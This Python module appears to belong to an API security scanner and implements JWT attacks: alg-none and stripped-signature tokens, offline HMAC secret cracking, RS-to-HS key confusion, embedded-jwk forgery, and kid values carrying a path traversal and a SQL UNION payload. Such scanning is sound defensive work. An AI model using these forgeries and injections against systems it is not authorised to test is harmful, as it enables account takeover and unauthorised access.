"""JWT attacks on an identity's own token, each proven by the server accepting a forged token.

* ``alg: none`` in four spellings with the signature removed;
* the original header with the signature stripped or altered;
* the HMAC secret cracked **offline** against the shipped wordlist (each word in its case variants) and every
  numeric secret of up to six digits (about a million HMACs, a few seconds, no requests), then a token with a
  changed claim re-signed with it and sent; with the secret known, an expired token is tried as well;
* RS→HS confusion: when a public key or JWKS is discoverable on the target's origin, an HS256 token signed
  with the PEM bytes of the public key;
* ``kid`` injection: ``kid`` pointing at ``/dev/null`` (empty key) and a SQL ``UNION`` choosing the key;
* an embedded key: a token signed with a fresh RSA key of the probe's own whose public half rides in the token's
  ``jwk`` header (CVE-2018-0114's pattern: a verifier that takes the key from the token it verifies);
* secrets of two or three usual words (``super-secret``, ``my_secret_key``), cracked offline the same way;
* secrets made of the API's own words (its tags, summaries, path segments, host name and the token's string
  claims: ``bank`` → ``bankbank``, ``bank_secret``, ``bank123`` …), cracked offline like the wordlist;
* a token that lives longer than a day (``exp`` more than 24 hours after ``iat``), read from the token;
* a token issued without an ``exp`` claim (a claim of its own named for an expiry and holding a time, such as
  ``expires`` or ``valid_until``, is read as its lifetime and only noted), and claims that carry a password, hash
  or other secret (read from the token: no request; a JWT is signed, not encrypted).

The reference request for all of them is the canary operation when it accepts the identity's own token (not
another credential of the same account), or else any authenticated operation that answers 2xx to the token and
401/403 anonymously; it must refuse a garbage token first. The offline crack costs no request and its result is
proof by itself (the secret reproduces the token's signature), so a weak secret is reported even when no
reference operation exists or the reference refuses the re-signed token.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import hmac
import itertools
import json
import re
import time
from collections.abc import Awaitable, Callable, Iterable, Iterator
from importlib import resources
from typing import Any

from apishield.probe import rules
from apishield.probe.checks._util import SENSITIVE_KEY, same, try_send, walk_keys, with_cookie
from apishield.probe.checks.disclosure import card_number
from apishield.probe.client import Exchange
from apishield.probe.engine import Context, Identity, check
from apishield.probe.targets import Operation

HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
KEY_PATHS = ("/.well-known/jwks.json", "/jwks.json", "/.well-known/openid-configuration", "/api/jwks.json",
             "/public.pem", "/api/public-key", "/.well-known/public.pem")


def b64e(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64d(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def decode(token: str) -> tuple[dict[str, Any], dict[str, Any], str] | None:
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(b64d(parts[0])), json.loads(b64d(parts[1]))
    except (ValueError, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return header, claims, parts[2]


def signing_input(header: dict[str, Any], claims: dict[str, Any]) -> str:
    """``base64url(header).base64url(claims)``: what a JWT's signature covers."""
    return b64e(json.dumps(header, separators=(",", ":")).encode()) + "." + b64e(
        json.dumps(claims, separators=(",", ":")).encode())


def encode(header: dict[str, Any], claims: dict[str, Any], key: bytes | None) -> str:
    """Sign with HMAC (``key``) or leave the signature empty (``key`` None)."""
    signing = signing_input(header, claims)
    if key is None:
        return signing + "."
    digest = HASHES.get(str(header.get("alg")), hashlib.sha256)
    return signing + "." + b64e(hmac.new(key, signing.encode(), digest).digest())


def wordlist() -> list[str]:
    """The shipped words, each with its case variants (``superSecret`` → ``supersecret``, ``SuperSecret``,
    ``SUPERSECRET``, ``Supersecret``): people capitalise the words they pick."""
    text = resources.files("apishield.probe").joinpath("data/jwt_secrets.txt").read_text(encoding="utf-8")
    words = [line.rstrip("\n") for line in text.splitlines() if line and not line.startswith("#")]
    return list(dict.fromkeys(v for w in words for v in case_variants(w)))


WORD = re.compile(r"[A-Za-z][a-z]+|[A-Z]{2,}(?![a-z])|[0-9]+")
AFFIXES = ("", "secret", "_secret", "-secret", "key", "_key", "-key", "jwt", "_jwt", "token", "123", "1234", "12345",
           "!", "pass", "password", "2023", "2024", "2025", "2026")


def own_words(texts: Iterable[str]) -> list[str]:
    """Secrets built from an API's own vocabulary: each word (3 to 20 letters) alone, doubled (``bankbank``), with
    a usual affix before or after it, and adjacent word pairs joined (``goodbank``, ``good_bank``), each in its
    case variants. People name a secret after the thing it protects; trying a few thousand costs no request."""
    words: list[str] = []
    pairs: list[str] = []
    for text in texts:
        found = [w.lower() for w in WORD.findall(text) if not w.isdigit()]
        words += [w for w in found if 3 <= len(w) <= 20]
        pairs += [a + sep + b for a, b in itertools.pairwise(found) if len(a) + len(b) <= 24
                  for sep in ("", "_", "-")]
    base = list(dict.fromkeys(words + pairs))[:400]
    out: list[str] = []
    for word in base:
        out.append(word + word)
        for affix in AFFIXES:
            out.append(word + affix)
            if affix and affix[0].isalpha():
                out.append(affix + word)
                out.append(affix + "_" + word)
    return list(dict.fromkeys(v for w in out for v in case_variants(w)))


#: the words people build secrets from: a qualifier, then what it is (``super-secret``, ``my_jwt_key``,
#: ``weak-secret-key``)
QUALIFIERS = ("super", "my", "your", "our", "the", "top", "very", "jwt", "app", "api", "auth", "access", "dev", "test",
              "prod", "default", "private", "signing", "secure", "strong", "random", "hidden", "secret", "session",
              "flask", "django", "express", "node", "server", "admin", "token", "weak", "insecure", "simple",
              "example", "sample", "demo", "local", "temp", "unsafe", "change", "fake", "dummy")
WHATS = ("secret", "key", "token", "pass", "password", "jwt", "signing", "string", "value", "phrase")
#: the numbers people end a secret with, joined to it directly or by its own separator (``weak-secret-key-12345``)
NUMBERS = ("1", "123", "1234", "12345", "123456", "2023", "2024", "2025", "2026")


def compound_secrets() -> list[str]:
    """Secrets of two or three usual words (``super-secret``, ``my_secret_key``, ``jwtsecret123``), joined by
    ``-``, ``_`` or nothing, each in its case variants, and in lower case with a usual number after it: a few
    hundred thousand HMACs (about a second), no request."""
    out: list[str] = []
    numbered: list[str] = []
    for first in QUALIFIERS:
        for what in WHATS:
            if first == what:
                continue
            for sep in ("-", "_", ""):
                pair = f"{first}{sep}{what}"
                words = [pair, *(f"{pair}{sep}{last}" for last in WHATS if last not in (first, what))]
                out += [*words, pair + "!"]
                numbered += [w + join + n for w in words for n in NUMBERS for join in dict.fromkeys(("", sep))]
    return list(dict.fromkeys([*(v for w in out for v in case_variants(w)), *numbered]))


def api_texts(ctx: Context, claims: dict[str, Any]) -> list[str]:
    """The texts an API names itself with: tags, summaries, operation ids, path segments, the host name and the
    token's short string claims."""
    texts = [ctx.client.base_url.split("//", 1)[-1].split("/", 1)[0].split(":", 1)[0]]
    for op in ctx.operations:
        texts += [*op.tags, op.summary, op.operation_id, op.path.replace("{", " ").replace("}", " ")]
    texts += [v for _k, v in walk_keys(claims) if isinstance(v, str) and len(v) <= 64]
    return texts


def case_variants(word: str) -> tuple[str, ...]:
    """``word`` as written, lower case, upper case, first letter up (rest kept), capitalised."""
    return (word, word.lower(), word.upper(), word[:1].upper() + word[1:], word.capitalize())


PIN_DIGITS = 6


def pins(digits: int = PIN_DIGITS) -> Iterator[str]:
    """Every numeric secret of 1 to ``digits`` digits, leading zeros included (``7``, ``07``, ``000007``)."""
    for width in range(1, digits + 1):
        for n in range(10 ** width):
            yield str(n).zfill(width)


def crack(token: str, words: Iterable[str]) -> str | None:
    """Offline: the word whose HMAC reproduces the token's signature, if any (no requests)."""
    parts = token.split(".")
    header = decode(token)
    if header is None or header[0].get("alg") not in HASHES:
        return None
    digest = HASHES[str(header[0]["alg"])]
    signing = f"{parts[0]}.{parts[1]}".encode()
    want = b64d(parts[2])
    name = digest().name
    for word in words:  # an offline search of our own: no secret is compared against a server's input
        if hmac.digest(word.encode(), signing, name) == want:
            return word
    return None


SECRET_KEY = re.compile(r"(?i)^(pass|passcode|passphrase|user_?password|hashed_?passwd)$")
MASKED = re.compile(r"^[*xX•#.\-_ ]*$|^\[?(redacted|hidden|masked|filtered)\]?$", re.IGNORECASE)


def secret_claims(claims: dict[str, Any]) -> list[str]:
    """Names of the claims (nested ones included) that carry a password, hash or other secret as a non-empty,
    unmasked string, or a payment card number; a flag such as ``has_password: true`` or ``password_changed_at`` is
    no secret."""
    found = []
    for key, value in walk_keys(claims):
        if ((SENSITIVE_KEY.match(key) or SECRET_KEY.match(key)) and isinstance(value, str) and value.strip()
                and not MASKED.match(value.strip())) or card_number(key, value):
            found.append(key)
    return list(dict.fromkeys(found))


class Attempt:
    """One request of ``op`` carrying a token where the identity carries its own: in its first header (with its
    ``Bearer`` prefix), or, for a session kept as a JWT in a cookie (``access_token=<JWT>``), in that cookie beside
    the identity's other cookies."""

    def __init__(self, ctx: Context, op: Operation, path: str, identity: Identity, cookie: str | None = None) -> None:
        self.ctx, self.op, self.path, self.identity, self.cookie = ctx, op, path, identity, cookie
        self.header_name = "Cookie" if cookie else next(iter(identity.headers), "Authorization")
        self.prefix = "Bearer " if identity.headers.get(self.header_name, "").startswith("Bearer ") else ""
        self.query = ctx.query_for(op)
        self.body = ctx.body_for(op) if op.method == "POST" else None

    def _value(self, token: str) -> str:
        if self.cookie is None:
            return self.prefix + token
        return with_cookie(self.identity.credentials(), self.cookie, token)["Cookie"]

    async def __call__(self, token: str) -> Exchange | None:
        return await try_send(self.ctx, self.op.method, self.path, op=self.op, params=self.query or None,
                              json_body=self.body, headers={self.header_name: self._value(token)})


def _cookie_header(identity: Identity) -> str:
    return next((v for k, v in identity.credentials().items() if k.lower() == "cookie"), "")


def cookie_jwt(identity: Identity) -> tuple[str, str] | None:
    """(cookie name, token) of a JWT the identity's session keeps in a cookie, or None."""
    for part in _cookie_header(identity).split(";"):
        name, _, value = part.strip().partition("=")
        if value and decode(value) is not None:
            return name, value
    return None


async def reference(ctx: Context, identity: Identity, token: str, cookie: str | None = None
                    ) -> tuple[Operation, str] | None:
    """An operation that answers 2xx to ``identity``'s token and 401/403 to a garbage token: the canary when it
    accepts that token (it may have proven the account with another of its credentials), else any authenticated
    GET (path parameters filled from the probe's own objects), tried in a few requests."""
    if ctx.canary is not None:
        own = await Attempt(ctx, ctx.canary, ctx.canary.path, identity, cookie)(token)
        if own is not None and own.ok:
            return ctx.canary, ctx.canary.path
    tried = 0
    for op in _reads_to_try(ctx, ctx.canary):
        if tried >= 6:
            break
        path = ctx.concrete_path(op, identity)
        if path is None:
            continue
        tried += 1
        mine = await Attempt(ctx, op, path, identity, cookie)(token)
        if mine is None or not mine.ok:
            continue
        anon = await try_send(ctx, "GET", path, op=op, params=ctx.query_for(op) or None)
        if anon is not None and anon.status in (401, 403):
            return op, path
    return None


def _reads_to_try(ctx: Context, skip: Operation | None) -> Iterator[Operation]:
    """Each ``GET`` that may need credentials and changes nothing, other than ``skip``: where a token is tried (the
    caller fills its path, which may draw from the run's random values, only for the reads it asks)."""
    return (op for op in ctx.operations
            if op.method == "GET" and op is not skip and not op.looks_destructive() and op.secured is not False)


async def _public_key(ctx: Context) -> bytes | None:
    for path in KEY_PATHS:
        ex = await try_send(ctx, "GET", path)
        if ex is None or not ex.ok:
            continue
        if b"-----BEGIN PUBLIC KEY-----" in ex.body or b"-----BEGIN RSA PUBLIC KEY-----" in ex.body:
            start = ex.body.index(b"-----BEGIN")
            end = ex.body.index(b"-----", ex.body.index(b"-----END") + 8) + 5
            return ex.body[start:end] + b"\n"
        data = ex.json()
        if isinstance(data, dict) and isinstance(data.get("jwks_uri"), str) and ctx.client.in_scope(
                ctx.client.url_for(data["jwks_uri"])):
            ex = await try_send(ctx, "GET", data["jwks_uri"])
            data = ex.json() if ex is not None else None
        keys = data.get("keys") if isinstance(data, dict) else None
        if isinstance(keys, list):
            from joserfc.jwk import RSAKey

            for jwk in keys:
                if isinstance(jwk, dict) and jwk.get("kty") == "RSA":
                    try:
                        return bytes(RSAKey.import_key({k: jwk[k] for k in ("kty", "n", "e")}).as_pem(private=False))
                    except (ValueError, KeyError):
                        continue
    return None


async def _alg_none(ctx: Context, send: Attempt, op: Operation, header: dict[str, Any],
                    claims: dict[str, Any]) -> None:
    for none in ("none", "None", "NONE", "nOnE"):
        ex = await send(encode({**header, "alg": none}, claims, None))
        if ex is not None and ex.ok:
            ctx.report(rules.JWT_NONE, f"a token with alg {none!r} and no signature was accepted", ex, op=op,
                       parameter=send.header_name)
            return


def sign_with_embedded_key(header: dict[str, Any], claims: dict[str, Any]) -> str:
    """An RS256 token signed with a fresh RSA key whose public half is the token's own ``jwk`` header: only a
    verifier that trusts the key a token brings with it accepts it."""
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding, rsa

    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    numbers = key.public_key().public_numbers()

    def b64int(n: int) -> str:
        return b64e(n.to_bytes((n.bit_length() + 7) // 8, "big"))

    jwk = {"kty": "RSA", "e": b64int(numbers.e), "n": b64int(numbers.n), "kid": "apishield-embedded", "use": "sig"}
    head = {k: v for k, v in header.items() if k not in ("jku", "x5u", "x5c")}
    head.update({"alg": "RS256", "jwk": jwk, "kid": "apishield-embedded"})
    signing = signing_input(head, claims)
    signature = key.sign(signing.encode(), padding.PKCS1v15(), hashes.SHA256())
    return signing + "." + b64e(signature)


async def _embedded_key(ctx: Context, send: Attempt, op: Operation, header: dict[str, Any],
                        claims: dict[str, Any]) -> None:
    ex = await send(sign_with_embedded_key(header, claims))
    if ex is not None and ex.ok:
        ctx.report(rules.JWT_EMBEDDED_KEY, "a token signed with the probe's own RSA key, whose public half was in "
                   "the token's 'jwk' header, was accepted", ex, op=op, parameter="jwk")


# A claim named for an expiry or a lifetime (``expires``, ``expiry``, ``expires_at``, ``exp_time``, ``valid_until``,
# ``expiration``, ``expiresIn``, ``ttl``): an application's own spelling of ``exp``.
LIFETIME_NAME = re.compile(r"(?i)^(?:token_?)?(?:exp(?:ir(?:y|es|ed|e|ation)(?:_?(?:at|on|in|time|date|ts))?"
                           r"|_?(?:time|date|at|ts))|valid_?(?:until|to|till)|not_?after|ttl|lifetime)$")
TIME_TEXT = re.compile(r"^\d{4}-\d{2}-\d{2}([T ]\d{2}:\d{2}(:\d{2})?)?|^\w{3}, \d{1,2} \w{3} \d{4}")


async def _after_the_rest(ctx: Context, job: Callable[[], Awaitable[None]], requeued: bool = False) -> None:
    """Run ``job`` once every other deferred job has run (it queues itself behind them once)."""
    if ctx.deferred and not requeued:
        ctx.deferred.append(("jwt", functools.partial(_after_the_rest, ctx, job, True)))
        return
    await job()


#: other protected reads asked with an altered signature once the reference verifies it
MAX_OTHER_READS = 8


async def _unverified_elsewhere(ctx: Context, identity: Identity, token: str, cookie: str | None,
                                reference_op: Operation) -> None:
    """The reference verifies the signature; another route may only decode the token (``jwt.decode(t, verify=False)``
    in one handler). Each other protected read (2xx to the identity, 401/403 to nobody, at most
    ``MAX_OTHER_READS``) is asked with the identity's token under an altered signature: answered exactly as the
    genuine token is, that route takes whatever claims a token carries."""
    parts = token.split(".")
    forged = parts[0] + "." + parts[1] + "." + b64e(b"apishield-not-a-signature")
    asked = 0
    for op in _reads_to_try(ctx, reference_op):
        if asked >= MAX_OTHER_READS:
            return
        path = ctx.concrete_path(op, identity)
        if path is None:
            continue
        send = Attempt(ctx, op, path, identity, cookie)
        mine = await send(token)
        if mine is None or not mine.ok:
            continue
        asked += 1
        anon = await try_send(ctx, "GET", path, op=op, params=ctx.query_for(op) or None)
        if anon is None or anon.status not in (401, 403):
            continue
        ex = await send(forged)
        if ex is not None and ex.ok and same(ex, mine):
            ctx.report(rules.JWT_NOSIG, f"GET {op.path} answered a token with an altered signature exactly as the "
                       f"genuine one ({reference_op.path} refused it): this route reads the token without verifying "
                       "it", ex, op=op, parameter=send.header_name)


def _sent_with(ctx: Context, identity: Identity) -> Exchange | None:
    """An answered request the identity made with its token: evidence for what is read from the token itself."""
    return next((ex for ex in reversed(ctx.client.log) if ex.identity == identity.name and ex.ok), None)


def lifetime_days(claims: dict[str, Any]) -> float | None:
    """Days from the token's issue (``iat``, else now: the identity's token was just issued) to its ``exp``."""
    exp, iat = claims.get("exp"), claims.get("iat")
    if not isinstance(exp, (int, float)) or isinstance(exp, bool):
        return None
    start = iat if isinstance(iat, (int, float)) and not isinstance(iat, bool) and iat <= exp else time.time()
    return (exp - start) / 86_400


def lifetime_claim(claims: dict[str, Any]) -> str | None:
    """The name of a top-level claim named for an expiry or a lifetime whose value is a time (a number of seconds,
    an epoch time or a date), or None."""
    for key, value in claims.items():
        if key == "exp" or not LIFETIME_NAME.match(key):
            continue
        if isinstance(value, (int, float)) and not isinstance(value, bool) and value > 0:
            return key
        if isinstance(value, str) and (TIME_TEXT.match(value.strip()) or value.strip().isdigit()):
            return key
    return None


@check("jwt", rules=(rules.JWT_NONE, rules.JWT_NOSIG, rules.JWT_WEAK, rules.JWT_EXPIRED, rules.JWT_CONFUSION,
                     rules.JWT_KID, rules.JWT_NO_EXPIRY, rules.JWT_CLAIMS_SECRET, rules.JWT_EMBEDDED_KEY,
                     rules.JWT_LONG_LIVED),
       weight=4, phase="auth", order=20)
async def jwt(ctx: Context) -> None:
    """alg none, stripped signature, weak HMAC secret (offline), expired, RS→HS confusion, kid injection, no
    expiry and secrets in the claims (read from the token)."""
    identity = next((i for i in ctx.users if i.token and decode(i.token)), None)
    if not ctx.users:
        ctx.needs_identity("JWT attacks need an identity's token")
        return
    cookie: str | None = None
    token = identity.token if identity is not None else None
    if identity is None:  # a session kept as a JWT in a cookie (``access_token=<JWT>``)
        identity, carried = next(((i, c) for i in ctx.users if (c := cookie_jwt(i)) is not None), (None, None))
        if carried is not None:
            cookie, token = carried
    if identity is None or token is None:
        ctx.not_applicable("the identities' credentials are not JWTs")
        return
    parsed = decode(token)
    if parsed is None:
        return
    carrier = f"Cookie: {cookie}" if cookie else "Authorization"
    header, claims, _signature = parsed
    alg = str(header.get("alg", ""))
    own_expiry = lifetime_claim(claims)
    if "exp" not in claims and own_expiry is not None:
        ctx.notes.append(f"jwt: the token issued to {identity.name} has no 'exp' claim but carries its own expiry "
                         f"claim {own_expiry!r} holding a time; read as its lifetime (whether the server checks it "
                         "is not tested)")
    elif "exp" not in claims:  # read from the token itself: costs no request
        ctx.report(rules.JWT_NO_EXPIRY, f"the token issued to {identity.name} has no 'exp' claim (claims: "
                   f"{', '.join(sorted(claims)) or 'none'}): once stolen it stays valid for ever",
                   _sent_with(ctx, identity), parameter=carrier)
    elif (days := lifetime_days(claims)) is not None and days > 1.001:  # read from the token: no request
        if identity.relogin is not None or identity.login_body:  # the API issued it at a login of the run
            ctx.report(rules.JWT_LONG_LIVED, f"the token issued to {identity.name} expires {days:.1f} days after "
                       "it was issued", _sent_with(ctx, identity), parameter=carrier)
        else:  # a token handed to the probe (--auth): its lifetime is whoever minted it's choice
            ctx.notes.append(f"jwt: the token given for {identity.name} lives {days:.1f} days; not reported, since "
                             "the run did not obtain it from the API")
    if keys := secret_claims(claims):  # read from the token itself: costs no request
        own = " (the identity's own password, in plain text)" if identity.password and any(
            v == identity.password for _k, v in walk_keys(claims)) else ""
        ctx.report(rules.JWT_CLAIMS_SECRET, f"the token issued to {identity.name} carries {', '.join(keys)} in its "
                   f"claims{own}: anyone who sees the token reads them (a JWT's payload is only base64url-encoded)",
                   _sent_with(ctx, identity), parameter=carrier)
    secret = None
    if alg in HASHES:  # offline: costs no request
        secret = (crack(token, wordlist()) or crack(token, own_words(api_texts(ctx, claims)))
                  or crack(token, compound_secrets()) or crack(token, pins()))
    found = await reference(ctx, identity, token, cookie)
    if found is None:
        ctx.skip("no operation answered 2xx to the identity and 401/403 to a garbage token (no reference)")
        if secret is not None:
            ctx.report(rules.JWT_WEAK, f"the {alg} secret of {identity.name}'s token is guessable "
                       f"({secret!r}): anyone can sign tokens (cracked offline; no reference operation to "
                       "replay a forgery on)", None, parameter=carrier)
        return
    op, path = found
    send = Attempt(ctx, op, path, identity, cookie)
    parts = token.split(".")
    garbage = await send(parts[0] + "." + parts[1] + "." + b64e(b"apishield-not-a-signature"))
    if garbage is None or garbage.ok:
        if garbage is not None:
            ctx.report(rules.JWT_NOSIG, "a token with an altered signature was accepted", garbage, op=op,
                       parameter=send.header_name)
        if secret is not None:  # the server checks no signature, yet the secret itself is weak: proven offline
            ctx.report(rules.JWT_WEAK, f"the {alg} secret of {identity.name}'s token is {secret!r} (cracked offline: "
                       "it reproduces the token's signature); anyone can sign tokens", None, op=op,
                       parameter=send.header_name)
        if garbage is not None:  # alg none is its own flaw (a library honouring the header), tried all the same
            await _alg_none(ctx, send, op, header, claims)
        return
    stripped = await send(parts[0] + "." + parts[1] + ".")
    if stripped is not None and stripped.ok:
        ctx.report(rules.JWT_NOSIG, "the token with its signature stripped was accepted", stripped, op=op,
                   parameter=send.header_name)
    else:  # a rarer flaw than the others of any check: asked on what the whole run leaves, after other deferred work
        ctx.deferred.append(("jwt", functools.partial(_after_the_rest, ctx, functools.partial(
            _unverified_elsewhere, ctx, identity, token, cookie, op))))
    await _alg_none(ctx, send, op, header, claims)
    if alg in HASHES:
        if secret is not None:
            forged_claims = {**claims, "apishield": "forged", "iat": int(time.time())}
            ex = await send(encode(header, forged_claims, secret.encode()))
            if ex is None or not ex.ok:  # the reference refused the re-signed token: the crack is proof by itself
                ctx.report(rules.JWT_WEAK, f"the {alg} secret of {identity.name}'s token is {secret!r} (cracked "
                           "offline: it reproduces the token's signature); anyone can sign tokens", None, op=op,
                           parameter=send.header_name)
            else:
                ctx.report(rules.JWT_WEAK, f"the {alg} secret is guessable ({secret!r}); a token re-signed with "
                           "it and an added claim was accepted", ex, op=op, parameter=send.header_name)
                old = {**claims, "iat": int(time.time()) - 7200, "exp": int(time.time()) - 3600}
                expired = await send(encode(header, old, secret.encode()))
                if expired is not None and expired.ok:
                    ctx.report(rules.JWT_EXPIRED, "a token that expired an hour ago was accepted", expired,
                               op=op, parameter=send.header_name)
    elif alg.startswith(("RS", "PS")):
        pem = await _public_key(ctx)
        if pem is not None:
            for key in (pem, pem.rstrip(b"\n")):
                ex = await send(encode({**header, "alg": "HS256"}, claims, key))
                if ex is not None and ex.ok:
                    ctx.report(rules.JWT_CONFUSION, "an HS256 token signed with the server's public RSA key was "
                               "accepted", ex, op=op, parameter=send.header_name)
                    break
    await _embedded_key(ctx, send, op, header, claims)
    for kid, key in (("../../../../../../../../dev/null", b""), ("' UNION SELECT 'apishield'-- ", b"apishield")):
        ex = await send(encode({**header, "alg": "HS256", "kid": kid}, claims, key))
        if ex is not None and ex.ok:
            ctx.report(rules.JWT_KID, f"a token with kid {kid!r} signed with the key that kid selects was accepted",
                       ex, op=op, parameter="kid")
            break
